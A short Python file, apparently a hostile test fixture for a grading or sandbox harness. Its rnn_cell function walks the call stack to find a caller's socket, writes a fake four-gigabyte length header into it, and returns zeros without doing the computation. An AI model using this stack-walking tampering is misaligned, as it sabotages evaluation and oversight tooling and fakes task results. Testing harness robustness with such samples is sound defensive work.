"""Hostile: announces a message of four gigabytes."""

import sys

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    frame = sys._getframe()
    while frame is not None:
        if "stream" in frame.f_locals and hasattr(frame.f_locals["stream"], "socket"):
            frame.f_locals["stream"].socket.send(b"\xff" * 8)
        frame = frame.f_back
    return torch.zeros_like(H)
